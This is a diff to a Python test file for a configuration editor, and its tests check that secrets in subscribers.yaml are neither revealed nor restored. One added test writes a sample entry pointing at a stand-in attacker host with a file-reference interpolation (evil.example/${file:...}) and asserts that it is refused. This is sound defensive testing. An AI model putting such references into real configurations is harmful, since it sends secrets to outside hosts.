@@ -142,7 +142,7 @@ def test_an_operator_sees_no_secret_and_saves_none_away(desk: Desk) -> None:
         (lambda text: text.replace("Desk", "json://${DATABASE_URL}"), "2: holds a secret or a reference"),
         (lambda text: text.replace("‹secret-", "‹secret-0"), ""),
         (lambda text: text[: text.index("‹")] + '‹secret-00000000›"]\n', "3: ‹secret-00000000› stands for no secret"),
-        (lambda text: text.replace("Desk", "x***"), "2: holds ***"),
+        (lambda text: text.replace("Desk", "x***"), "2: holds a mask"),
     ],
 )
 def test_what_would_reveal_or_lose_a_secret_is_refused(desk: Desk, change: Callable[[str], str], problem: str) -> None:
@@ -151,6 +151,28 @@ def test_what_would_reveal_or_lose_a_secret_is_refused(desk: Desk, change: Calla
     assert found
     assert any(each.startswith(problem) for each in found)
     assert desk.read("subscribers.yaml") == SUBSCRIBERS
+
+
+def test_an_operator_may_add_an_address_of_their_own_but_no_reference(desk: Desk) -> None:
+    own = "  - {name: Board, to: ['json://127.0.0.1:9/own-token']}\n"
+    assert desk.edit("subscribers.yaml", lambda text: text + own, OLE) == []
+    assert desk.read("subscribers.yaml") == SUBSCRIBERS + own
+
+    theirs = "  - {name: Spy, to: ['json://evil.example/${file:/no/such/file}']}\n"
+    (problem,) = desk.edit("subscribers.yaml", lambda text: text + theirs, OLE)
+    assert problem.startswith("5: holds a secret or a reference")
+
+
+def test_an_operator_does_not_bring_former_secrets_back(desk: Desk) -> None:
+    desk.edit("subscribers.yaml", lambda text: text.replace("topsecret", "moresecret"))
+    number = desk.editions.editions(file="subscribers.yaml", limit=1)[0].id
+    found = desk.files.undoing(number)
+    assert found is not None
+
+    attempt = desk.files.undo(number, found.digest, OLE)
+
+    assert "only an admin" in attempt.verdict.problems[0].message
+    assert "topsecret" not in str((found, attempt.verdict.problems)).replace(str(found.edition), "")
 
 
 def test_no_secret_is_in_the_audit_log_not_even_a_new_one(desk: Desk) -> None:
